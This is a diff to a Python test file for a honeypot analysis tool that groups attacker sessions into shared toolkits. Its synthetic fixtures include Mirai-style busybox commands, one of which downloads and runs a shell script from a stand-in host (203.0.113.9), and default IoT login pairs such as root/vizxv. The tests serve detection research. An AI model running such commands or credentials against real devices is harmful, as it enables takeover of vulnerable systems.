@@ -7,8 +7,14 @@ and a placeholder value is never a shared value.
 
 from __future__ import annotations
 
+import math
 import random
 
+import numpy as np
+import pytest
+
+from coord_core.analysis.engine import shared_tool_log_odds
+from coord_core.analysis.frame import build_frame
 from coord_core.contracts.campaigns import AnalysisResult, Verdict
 from coord_core.contracts.sessions import AttackSession, Download, TcpipRequest
 from coord_core.ingest.sessionize import tunnel_data
@@ -171,3 +177,56 @@ def test_a_script_unrelated_networks_run_day_after_day_is_weak_and_a_burst_is_st
     # Without history the public script looks like one toolkit shared by thirty sources.
     blind = analyze_sessions(sessions, {}, history=None)
     assert _merged_with(blind, set(public_users)) > 0
+
+
+TOOLKIT = [
+    "enable",
+    "system",
+    "shell",
+    "sh",
+    "/bin/busybox cat /proc/mounts",
+    "/bin/busybox echo -e '\\x41\\x42' > /dev/.qzfk; /bin/busybox cat /dev/.qzfk; /bin/busybox rm /dev/.qzfk",
+    "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ftpget",
+    "cd /tmp || cd /var/run || cd /mnt; /bin/busybox wget http://203.0.113.9/x.sh; sh x.sh",
+]
+
+
+def test_a_toolkit_that_skips_optional_steps_still_links_through_the_lines_it_did_run() -> None:
+    """Every line of a smaller script found in a bigger one is the same toolkit running more of it."""
+    rng = random.Random(31)
+    bots = [random_ip(rng) for _ in range(8)]
+    sessions = []
+    for k, ip in enumerate(bots):
+        # each bot runs the fixed preamble and its echo probe, plus a different subset of the rest
+        optional = [line for j, line in enumerate(TOOLKIT[4:]) if j != 1 and (k >> j) & 1]
+        script = [*TOOLKIT[:4], TOOLKIT[5], *optional]
+        sessions.append(
+            session(
+                ip, rng.uniform(0, 3600), logins=[("root", "vizxv")], success=True, commands=script, port=23
+            )
+        )
+    result = analyze_sessions(sessions + background(rng, 40), {})
+    assert _pair_recall(result, bots) >= 0.95
+    # and a recon one-liner every toolkit runs joins nobody
+    lone = [random_ip(rng) for _ in range(6)]
+    recon = [
+        session(ip, rng.uniform(0, 3600), logins=[("root", "admin")], success=True, commands=["uname -a"])
+        for ip in lone
+    ]
+    assert _merged_with(analyze_sessions(recon + sessions + background(rng, 40), {}), set(lone)) == 0
+
+
+def test_one_uncommon_client_on_every_source_counts_and_a_common_one_does_not() -> None:
+    """An operator's own kit on all its addresses: chance would need share^(k-1)."""
+    rng = random.Random(32)
+    own = [f"45.137.21.{n}" for n in (11, 40, 77, 130)]
+    kit = [
+        session(ip, 600.0 * k, logins=[("oracle", "x")], client="SSH-2.0-Custom_0.3", hassh="c" * 32)
+        for k, ip in enumerate(own)
+    ]
+    frame = build_frame(kit + background(rng, 80, span_s=3600))
+    members = np.array([frame.source_ips.index(ip) for ip in own], dtype=np.int64)
+    odds = shared_tool_log_odds(frame, members)
+    assert odds == pytest.approx(3 * math.log(frame.n_sources / 4), rel=1e-6)
+    common = np.array([i for i, ip in enumerate(frame.source_ips) if ip not in own][:4], dtype=np.int64)
+    assert shared_tool_log_odds(frame, common) < 0.2 * odds
